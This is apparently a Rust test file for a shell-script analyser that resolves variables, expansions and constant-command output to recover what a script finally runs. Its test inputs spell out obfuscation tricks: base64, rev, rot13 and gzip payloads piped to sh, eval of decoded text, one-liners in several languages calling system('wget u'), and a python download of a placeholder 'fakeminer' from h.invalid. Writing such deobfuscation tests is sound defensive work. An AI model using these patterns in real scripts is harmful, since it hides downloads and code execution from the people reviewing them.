//! What constant commands print and what variables hold: the word that a program is run with in the end.

use super::support::{Known, bash, posix, shown, source, word};
use crate::shell::{self, Language};

/// The words of the last command.
fn last(text: &str) -> String {
    let script = bash(text);
    let command = script.commands.last().map(|c| c.argv.iter().map(word).collect::<Vec<_>>());
    command.unwrap_or_default().join(" ")
}

#[track_caller]
fn runs(rows: &[(&str, &str)]) {
    for (input, wanted) in rows {
        assert_eq!(last(input), *wanted, "for: {input}");
    }
}

#[test]
fn variables_are_propagated() {
    runs(&[
        ("a=fa; b=kemi; c=ner; /opt/$a$b$c", "/opt/fakeminer"),
        ("a=fake; a+=miner; $a", "fakeminer"),
        ("a='b c'; x $a \"$a\"", "x b c ‹b c›"),
        ("export A=b; x $A", "x b"),
        ("f() { local a=b; x $a; }", "x b"),
        ("readonly a=b; a=$a; x $a", "x b"),
        ("x $a", "x ?"),
        ("a=b; unset a; x $a", "x ?"),
        ("a=b; (a=c); x $a", "x b"),
        ("a=b; a=c | d; x $a", "x b"),
        ("a=b true; x $a", "x ?"),
        ("a=b sh -c 'x $a'", "x b"),
        ("set -- a b; x $2 $1 $#", "x b a 2"),
        ("set -- a b c; shift; x \"$@\" \"$*\"", "x b c ‹b c›"),
        ("read a b <<< 'c d e'; x $b $a", "x d e c"),
        ("printf -v a %s b; x $a", "x b"),
        ("IFS=,; a=b,c; x $a", "x b c"),
        ("wget${IFS}-O${IFS}f", "wget -O f"),
        ("a=b; eval \"x \\$a\"", "x b"),
        ("mapfile -t a <<< $'b\\nc'; x ${a[1]}", "x c"),
        ("while read a; do x $a; done <<E\nb\nc\nE\n", "x c"),
        ("for a in b c; do n=$n$a; done; x $n", "x ?bc"),
        ("n=; for a in b c; do n=$n$a; done; x $n", "x bc"),
        ("f() { x \"$2$1\"; }; f b a", "x ab"),
    ]);
}

#[test]
fn known_variables_come_from_outside() {
    let known = Known::new(&[("A", "fake"), ("B", "miner x")]);
    let script = shell::read(&source("$A$B; C=$A; y $C"), Language::Posix, &known);
    assert_eq!(shown(&script), ["fakeminer x", "C=fake", "y fake"]);
}

#[test]
fn branches_leave_several_values() {
    let lines = |text: &str| shown(&posix(text));
    let both = lines("if a; then x=b; else x=c; fi; d $x");
    assert_eq!(both[1..], ["x=b", "x=c", "d b", "d c"]);
    let arms = lines("case $m in a) x=1 y=2;; b) x=3 y=4;; esac; d $x $y");
    assert_eq!(arms[2..], ["d 1 2", "d 3 4"]);
    let maybe = lines("x=b; if a; then x=c; fi; y=$x; d $y");
    assert_eq!(maybe[3..], ["y=b", "d b", "d c"]);
    assert_eq!(lines("x=b; a || x=c; d $x")[3..], ["d b", "d c"]);
}

#[test]
fn parameter_operators_are_applied() {
    runs(&[
        ("x ${a:-b} ${a-c} ${a:=d} $a", "x b c d d"),
        ("a=; x ${a:-b} ${a-c}${a:+d}${a+e}", "x b e"),
        ("a=b; x ${a:-c} ${a:+d}", "x b d"),
        ("a=f.tar.gz; x ${a%.*} ${a%%.*} ${a#*.} ${a##*.}", "x f.tar f tar.gz gz"),
        (
            "a=abcabc; x ${a/b/X} ${a//b/X} ${a//[bc]} ${a/#a/X} ${a/%c/X}",
            "x aXcabc aXcaXc aa Xbcabc abcabX",
        ),
        ("a=abcdef; x ${a:2} ${a:1:2} ${a: -2} ${#a}", "x cdef bc ef 6"),
        ("a=fakefile; ${a::4}miner", "fakeminer"),
        ("${PATH:0:1}opt${HOME:0:1}fakeminer", "/opt/fakeminer"),
        ("a=aB; x ${a^} ${a^^} ${a,,}", "x AB AB ab"),
        ("a=b; b=c; x ${!a}", "x c"),
        ("x fake${IFS%???}miner", "x fakeminer"),
        ("x \"${a:-b c}\" ${a:-b c}", "x ‹b c› b c"),
        ("x \"${a:-\"fake\"\"miner\"}\"", "x fakeminer"),
        ("x $((1 + 2 * 3)) $(( (1<<4) | 1 ))", "x 7 17"),
        ("a=4; x $((a * 2)) $(($a % 3))", "x 8 1"),
        ("a=(b c d); x ${#a[@]} ${a[1]} \"${a[*]}\"", "x 3 c ‹b c d›"),
        ("x {a,b{c,d}}e {1..3} {a,'b,c'}", "x ae bce bde 1 2 3 a b,c"),
        ("{wget,-O,f,u}", "wget -O f u"),
        ("x {} {a} {,}", "x {} {a}"),
    ]);
}

#[test]
fn output_of_constant_commands_is_known() {
    for (command, wanted) in [
        ("echo -n a b", "a b"),
        ("echo -e 'a\\x62\\0143'", "abc"),
        ("printf '%s-%s\\n' a b c", "a-b⏎c-"),
        ("printf '%b' 'a\\tb'", "a\tb"),
        ("printf '%03d %x %o %c' 7 255 8 xyz", "007 ff 10 x"),
        ("printf '\\x66\\141ke'", "fake"),
        ("printf \"\\\\$(printf '%03o' 102)\"", "f"),
        ("echo ZmFrZW1pbmVy | base64 -d", "fakeminer"),
        ("base64 --decode <<< ZmFrZW1pbmVy", "fakeminer"),
        ("echo ZmFrZW1pbmVy | openssl base64 -d", "fakeminer"),
        ("echo ZmFrZW1pbmVy | openssl enc -base64 -d -A", "fakeminer"),
        ("echo fake | base64", "ZmFrZQo="),
        ("echo 66616b65 | xxd -r -p", "fake"),
        ("echo renimekaf | rev", "fakeminer"),
        ("echo snxrzvare | tr a-z n-za-m", "fakeminer"),
        ("echo f-a-k-e | tr -d -", "fake"),
        ("echo aabbc | tr -s ab", "abc"),
        ("echo FAKE | tr '[:upper:]' '[:lower:]'", "fake"),
        ("echo xake | sed 's/x/f/'", "fake"),
        ("echo a/b/c | sed -e 's|/|.|g' -e 's/c/d/'", "a.b.d"),
        ("echo abcdef | cut -c 2-3,5", "bce"),
        ("echo a:b:c | cut -d: -f2-", "b:c"),
        ("echo abcdef | head -c 3", "abc"),
        ("printf 'a\\nb\\nc\\n' | tail -n 1", "c"),
        ("printf 'a\\nb\\nc\\n' | tail -n +2 | head -1", "b"),
        ("printf 'a\\nb\\n' | tac", "b⏎a"),
        ("basename /a/b.sh .sh", "b"),
        ("dirname /a/b", "/a"),
        ("seq 2 4", "2⏎3⏎4"),
        ("which wget", "wget"),
        ("echo a b | xargs echo c", "c a b"),
        ("cat <<E\na\nE\n", "a"),
        ("echo a; echo b", "a⏎b"),
        ("sh -c 'echo a'", "a"),
        ("f() { echo $1; }; f b", "b"),
        ("perl -e 'print pack(\"H*\",\"66616b65\")'", "fake"),
        ("python3 -c 'print(\"fa\"+\"ke\")'", "fake"),
        ("curl u", "?"),
        ("curl u || echo a", "?"),
        ("command -v a || echo b", "a"),
        ("echo $U | base64 -d", "?"),
        ("cat unknown", "?"),
        ("if a; then echo b; else echo c; fi", "?"),
    ] {
        let input = format!("x \"$({command})\"");
        let script = bash(&input);
        let found = script.commands[0].argv[1].replace('\n', "⏎");
        let found = found.replace(crate::source::UNKNOWN, "?");
        assert_eq!(found, wanted, "for: {command}");
    }
}

#[test]
fn packed_scripts_are_unpacked() {
    let blob = "H4sIAAAAAAACA9PPLyjRT0vMTs3NzEst4gIAczSU0g8AAAA=";
    runs(&[
        ("echo L29wdC9mYWtlbWluZXIgLW8geA== | base64 -d | sh", "/opt/fakeminer -o x"),
        ("echo renimekaf/tpo/ | rev | sh", "/opt/fakeminer"),
        (&format!("echo {blob} | base64 -d | gunzip > /opt/a; sh /opt/a"), "/opt/fakeminer"),
        (&format!("base64 -d <<< {blob} | gzip -dc | sh"), "/opt/fakeminer"),
        ("eval \"$(echo ZmFrZW1pbmVyCg== | base64 -d)\"", "fakeminer"),
        ("sh -c \"$(printf 'fa%s' keminer)\"", "fakeminer"),
        ("cat <<E | rev | sh\nb a\nE\n", "a b"),
        ("echo b c | xargs a", "a b c"),
        ("echo a b > f; x=$(<f); c $x", "c a b"),
        ("read x < <(echo fakeminer); $x", "fakeminer"),
        ("echo b | xargs -I{} a x{}y", "a xby"),
        ("echo YQ== > f; base64 -d f > g; . ./g", "a"),
        ("echo 'echo a' | sh | sh", "a"),
        ("perl -e 'system pack(\"H*\",\"2f6f70742f66616b656d696e6572\")'", "/opt/fakeminer"),
        ("python -c \"import os; os.system('fake'+'miner')\"", "fakeminer"),
        ("python3 -c 'import subprocess as s; s.check_call([\"wget\",\"u\"])'", "wget u"),
        ("node -e 'require(\"child_process\").execSync(\"wget u\")'", "wget u"),
        ("awk 'BEGIN { system(\"wget u\") }'", "wget u"),
        ("ruby -e 'system(\"wget u\")'", "wget u"),
        ("php -r 'system(base64_decode(\"d2dldCB1\"));'", "wget u"),
    ]);
}

#[test]
fn code_says_its_strings() {
    let script = posix(
        "python3 - <<E\nimport urllib.request as u\nu.urlretrieve('https://h.invalid/'+'fake'+'miner','/opt/app')\nE\n",
    );
    assert_eq!(shown(&script)[1], "code: python3 https://h.invalid/fakeminer /opt/app");
}
